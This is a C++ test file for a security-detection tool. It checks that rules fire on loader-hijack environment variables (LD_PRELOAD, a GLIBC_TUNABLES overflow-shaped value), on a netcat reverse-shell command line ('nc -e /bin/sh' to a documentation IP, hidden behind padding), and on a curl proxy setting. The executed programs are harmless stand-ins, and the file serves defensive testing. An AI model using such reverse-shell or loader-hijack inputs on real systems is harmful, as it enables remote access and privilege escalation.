// env_rules_fire_test.cpp — kernel tests (issue 12, exec truth): the environment a program is
// started with (proc.env, read by the probe from the new mm at exec) and argv past 40 KiB
// reach the rules. vigil's "Dynamic Linker Hijacked Through Environment" fires on
// LD_PRELOAD / GLIBC_TUNABLES at exec, by execve, through the `env` wrapper and by execveat
// (fexecve); near misses (a benign tunable, look-alike names) do not fire. The upstream
// incubating rules that read proc.env ("Potential Local Privilege Escalation via Environment
// Variables Misuse", "Program run with disallowed http proxy env") fire too. A reverse-shell
// option after 40 KiB of padding in argv still fires its rule.
// Every exec'd program is harmless (/bin/true, a renamed fire_helper); LD_PRELOAD names a
// file that does not exist (ld.so says so and ignores it). Each exec runs four forks below
// the test so that the meson runner is not among the ancestors the rules' build-tool
// exclusion looks at (proc.aexepath[1..3]).
#include <fcntl.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include "fire_harness.h"

namespace vigil::fire {
namespace {

using std::chrono::seconds;

constexpr const char* kLoaderEnv = "Dynamic Linker Hijacked Through Environment";
constexpr const char* kReverseShell = "Reverse Shell Command Line";
constexpr const char* kTunablesUpstream = "Potential Local Privilege Escalation via Environment Variables Misuse";
constexpr const char* kProxyUpstream = "Program run with disallowed http proxy env";

// How the program is started with its environment.
enum class How { kExecve, kExecveat };

// In a forked child: forks `depth` more levels, then the last one execs path with argv and
// exactly `env` (execve, or fexecve of an O_PATH-less fd: execveat(fd, "", AT_EMPTY_PATH)).
int DeepExec(const std::string& path, const std::vector<std::string>& argv,
             const std::vector<std::string>& env, How how, int depth) {
  if (depth > 0) {
    pid_t c = fork();
    if (c < 0) return 126;
    if (c == 0) _exit(DeepExec(path, argv, env, how, depth - 1));
    int status = 0;
    if (waitpid(c, &status, 0) != c) return 125;
    return WIFEXITED(status) ? WEXITSTATUS(status) : 124;
  }
  // The programs' complaints (ld.so's "cannot be preloaded", the helper's usage line with
  // 40 KiB of padding) are not the test's output.
  int null = open("/dev/null", O_WRONLY | O_CLOEXEC);
  if (null >= 0) dup2(null, 2);
  std::vector<char*> a, e;
  for (const auto& s : argv) a.push_back(const_cast<char*>(s.c_str()));
  a.push_back(nullptr);
  for (const auto& s : env) e.push_back(const_cast<char*>(s.c_str()));
  e.push_back(nullptr);
  if (how == How::kExecveat) {
    int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 123;
    fexecve(fd, a.data(), e.data());
  } else {
    execve(path.c_str(), a.data(), e.data());
  }
  return 127;
}

class EnvRulesFire : public ::testing::Test {
 protected:
  // rule_paths: what the harness loads (started once per suite).
  static Harness* Start(const std::vector<std::string>& rule_paths, std::string* error) {
    return Harness::StartWith(rule_paths, LoadOptions{}, error).release();
  }

  // Runs the program in a tree of its own; returns the tree's root.
  static uint32_t Run(const std::string& path, const std::vector<std::string>& argv,
                      const std::vector<std::string>& env, How how = How::kExecve) {
    int code = -1;
    pid_t root = RunTree([&] { return DeepExec(path, argv, env, how, 3); }, &code);
    EXPECT_GT(root, 0);
    return static_cast<uint32_t>(root);
  }

  static std::string Alerts(Harness& h, uint32_t root) {
    std::string seen;
    for (const auto& a : h.AlertsOfTree(root)) seen += "  [" + a.rule + "] " + a.output + "\n";
    return seen.empty() ? "  (none)\n" : seen;
  }

  // The rule fired in root's tree; returns its output.
  static std::string ExpectFires(Harness& h, uint32_t root, const std::string& rule) {
    const bool fired = h.WaitForRules(root, {rule}, seconds(10));
    EXPECT_TRUE(fired) << rule << " did not fire; the tree's alerts:\n" << Alerts(h, root)
                       << "sensor drops=" << h.Stats().drops;
    for (const auto& a : h.AlertsOfTree(root))
      if (a.rule == rule) return a.output;
    return {};
  }

  // The tree ran (its exec of `exe_suffix` was seen) and `rule` did not fire.
  static void ExpectQuiet(Harness& h, uint32_t root, const std::string& rule,
                          const std::string& exe_suffix) {
    h.WaitForRules(root, {}, seconds(10));  // until the root's exit was seen
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
    bool seen = false;
    for (const auto& e : h.ExecsOfTree(root))
      seen = seen || (e.size() >= exe_suffix.size() &&
                      e.compare(e.size() - exe_suffix.size(), exe_suffix.size(), exe_suffix) == 0);
    EXPECT_TRUE(seen) << "the exec of *" << exe_suffix << " was not seen";
    for (const auto& a : h.AlertsOfTree(root)) EXPECT_NE(a.rule, rule) << a.output;
  }

  ScratchDir scratch_;
};

// ---- vigil's rules ---------------------------------------------------------------------

class VigilEnvRules : public EnvRulesFire {
 protected:
  static void SetUpTestSuite() {
    const char* root = std::getenv("VIGIL_SOURCE_ROOT");
    if (!root) {
      error_ = "VIGIL_SOURCE_ROOT is not set";
      return;
    }
    harness_ = Start({std::string(root) + "/rules"}, &error_);
  }
  static void TearDownTestSuite() {
    delete harness_;
    harness_ = nullptr;
  }
  void SetUp() override {
    ASSERT_NE(harness_, nullptr) << "harness: " << error_;
    ASSERT_EQ(harness_->load_errors(), 0u);
    ASSERT_TRUE(harness_->ruleset().ReadsProcessEnv());
    ASSERT_FALSE(scratch_.path().empty());
  }
  static Harness* harness_;
  static std::string error_;
};
Harness* VigilEnvRules::harness_ = nullptr;
std::string VigilEnvRules::error_;

TEST_F(VigilEnvRules, LdPreloadAtExecveFires) {
  const std::string lib = scratch_.path() + "/x.so";  // never created
  const uint32_t root = Run("/bin/true", {"true"}, {"PATH=/usr/bin:/bin", "LD_PRELOAD=" + lib});
  const std::string out = ExpectFires(*harness_, root, kLoaderEnv);
  EXPECT_NE(out.find("LD_PRELOAD=" + lib), std::string::npos) << out;
}

TEST_F(VigilEnvRules, GlibcTunablesOverflowShapeFires) {
  const std::string tun = "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=1";
  const uint32_t root = Run("/bin/true", {"true"}, {tun});
  const std::string out = ExpectFires(*harness_, root, kLoaderEnv);
  EXPECT_NE(out.find(tun), std::string::npos) << out;
}

// The same through the `env` wrapper: env itself starts clean, the program it runs gets
// LD_PRELOAD.
TEST_F(VigilEnvRules, LdPreloadThroughTheEnvWrapperFires) {
  const std::string lib = scratch_.path() + "/y.so";
  const uint32_t root = Run("/usr/bin/env", {"env", "LD_PRELOAD=" + lib, "/bin/true"}, {});
  const std::string out = ExpectFires(*harness_, root, kLoaderEnv);
  EXPECT_NE(out.find("process=true"), std::string::npos) << out;
}

// And by execveat (fexecve: the kernel names the file /dev/fd/N).
TEST_F(VigilEnvRules, LdPreloadByExecveatFires) {
  const std::string lib = scratch_.path() + "/z.so";
  const uint32_t root = Run("/bin/true", {"true"}, {"LD_PRELOAD=" + lib}, How::kExecveat);
  ExpectFires(*harness_, root, kLoaderEnv);
}

// Near misses: a benign tunable, look-alike variable names, a system library.
TEST_F(VigilEnvRules, BenignLoaderEnvironmentDoesNotFire) {
  const std::string lib = scratch_.path() + "/x.so";
  const uint32_t root = Run("/bin/true", {"true"},
                            {"GLIBC_TUNABLES=glibc.malloc.check=0", "XLD_PRELOAD=" + lib,
                             "LD_PRELOAD_SAVED=" + lib, "LD_LIBRARY_PATH=/usr/local/lib"});
  ExpectQuiet(*harness_, root, kLoaderEnv, "/true");
}

// 40 KiB of padding before the option that makes it a reverse shell: the whole argv is read.
TEST_F(VigilEnvRules, ReverseShellOptionAfterFortyKibOfPaddingFires) {
  const std::string nc = InstallHelper(scratch_.path(), "nc");
  ASSERT_FALSE(nc.empty());
  const std::string pad(40 * 1024, 'p');
  const uint32_t root = Run(nc, {"nc", pad, "-e", "/bin/sh", "198.51.100.7", "4444"}, {});
  ExpectFires(*harness_, root, kReverseShell);
}

// ---- upstream incubating rules that read proc.env ---------------------------------------

class UpstreamEnvRules : public EnvRulesFire {
 protected:
  static void SetUpTestSuite() {
    const char* shared = std::getenv("VIGIL_SHARED_DIR");
    if (!shared) {
      error_ = "VIGIL_SHARED_DIR is not set";
      return;
    }
    const std::string dir = std::string(shared) + "/falco-rules/";
    harness_ = Start({dir + "falco_rules.yaml", dir + "falco-incubating_rules.yaml"}, &error_);
  }
  static void TearDownTestSuite() {
    delete harness_;
    harness_ = nullptr;
  }
  void SetUp() override {
    ASSERT_NE(harness_, nullptr) << "harness: " << error_;
    ASSERT_TRUE(harness_->ruleset().ReadsProcessEnv());
    ASSERT_FALSE(scratch_.path().empty());
  }
  static Harness* harness_;
  static std::string error_;
};
Harness* UpstreamEnvRules::harness_ = nullptr;
std::string UpstreamEnvRules::error_;

TEST_F(UpstreamEnvRules, GlibcTunablesAtExecFires) {
  const uint32_t root = Run("/bin/true", {"true"}, {"GLIBC_TUNABLES=glibc.malloc.mxfast=0"});
  const std::string out = ExpectFires(*harness_, root, kTunablesUpstream);
  EXPECT_NE(out.find("GLIBC_TUNABLES=glibc.malloc.mxfast=0"), std::string::npos) << out;
}

TEST_F(UpstreamEnvRules, NoTunablesDoesNotFire) {
  const uint32_t root = Run("/bin/true", {"true"}, {"GLIBC_TUNABLE=glibc.malloc.mxfast=0"});
  ExpectQuiet(*harness_, root, kTunablesUpstream, "/true");
}

// curl/wget with HTTP_PROXY: a copy of the (harmless) helper named curl.
TEST_F(UpstreamEnvRules, CurlWithHttpProxyFires) {
  const std::string curl = InstallHelper(scratch_.path(), "curl");
  ASSERT_FALSE(curl.empty());
  const uint32_t root = Run(curl, {"curl", "usage"}, {"HTTP_PROXY=http://198.51.100.7:3128"});
  ExpectFires(*harness_, root, kProxyUpstream);
}

}  // namespace
}  // namespace vigil::fire
